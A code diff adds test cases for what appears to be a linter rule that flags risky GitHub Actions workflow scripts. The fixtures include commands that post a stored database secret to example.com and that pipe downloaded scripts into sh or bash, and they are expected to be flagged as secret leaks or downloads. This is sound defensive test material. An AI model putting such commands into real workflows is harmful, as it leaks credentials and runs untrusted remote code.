@@ -69,6 +69,34 @@ test.each([
     [],
   ],
   [
+    'an address kept as a secret, which is told a word',
+    workflow(script('a', 'make')),
+    workflow(script('a', 'curl -d done ${{ secrets.SLACK_WEBHOOK_URL }}')),
+    [],
+  ],
+  [
+    'an address kept as a secret, told to others',
+    workflow(script('a', 'make')),
+    workflow(script('a', 'curl -d ${{ secrets.DATABASE_URL }} https://example.com')),
+    ['config/workflow-script-risk secret-sent'],
+  ],
+  [
+    'a download beside one of one version',
+    workflow(script('a', 'make')),
+    workflow(
+      script('a', 'curl https://raw.githubusercontent.com/acme/a/v1.0.0/i.sh | sh; bash <(curl https://example.com)'),
+    ),
+    ['config/workflow-script-risk download'],
+  ],
+  [
+    'a download in the script of an action that is bound to one commit',
+    workflow(script('a', 'make')),
+    workflow(
+      `{ name: a, uses: actions/github-script@${'ab'.repeat(20)}, with: { script: "curl https://example.com | sh" } }`,
+    ),
+    ['config/workflow-script-risk download'],
+  ],
+  [
     'a secret that is called after the owner of the action',
     workflow('{ name: a, uses: acme/a@v1 }'),
     workflow('{ name: a, uses: acme/a@v1, with: { key: "${{ secrets.ACME_API_KEY }}" } }'),
